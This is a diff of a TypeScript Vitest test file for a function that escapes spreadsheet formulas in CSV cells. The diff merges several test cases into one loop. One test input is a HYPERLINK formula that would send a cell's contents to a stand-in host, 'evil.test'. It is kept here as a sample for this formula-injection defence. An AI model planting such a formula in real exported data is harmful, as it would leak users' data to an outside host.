@@ -1,8 +1,8 @@
-import { describe, expect, test } from 'vitest'
+import { expect, test } from 'vitest'
 import { escapeFormulas, unescapeFormulas } from './formula.ts'
 
-describe('escapeFormulas', () => {
-  test.each([
+test('a text that begins as a formula gets a quote, also where a spreadsheet of another delimiter begins a cell', () => {
+  for (const [text, cell] of [
     ['=HYPERLINK("http://evil.test/?"&B2,"open")', '\'=HYPERLINK("http://evil.test/?"&B2,"open")'],
     ['+212 600 000 000', "'+212 600 000 000"],
     ['-2+3', "'-2+3"],
@@ -11,18 +11,10 @@ describe('escapeFormulas', () => {
     ['\r=1', "'\r'=1"],
     ['＝1', "'＝1"],
     ['＠SUM(1)', "'＠SUM(1)"],
-  ])('%j begins with a quote', (text, cell) => {
+    ['Bonjour;=1+1;\n-2', "Bonjour;'=1+1;\n'-2"],
+    ...['', 'Salma', "l'Oréal", 'a=b', 'Bonjour,\n\nje postule', '2026-03-01', ' +1'].map((text) => [text, text]),
+  ] as [string, string][])
     expect(escapeFormulas(text)).toBe(cell)
-  })
-
-  test('has the quote also where a spreadsheet of another delimiter begins a cell', () => {
-    expect(escapeFormulas('Bonjour;=1+1;\n-2')).toBe("Bonjour;'=1+1;\n'-2")
-  })
-
-  test('leaves other texts alone', () => {
-    for (const text of ['', 'Salma', "l'Oréal", 'a=b', 'Bonjour,\n\nje postule', '2026-03-01', ' +1'])
-      expect(escapeFormulas(text)).toBe(text)
-  })
 })
 
 test('unescapeFormulas gives back every text, also one that begins with a quote itself', () => {
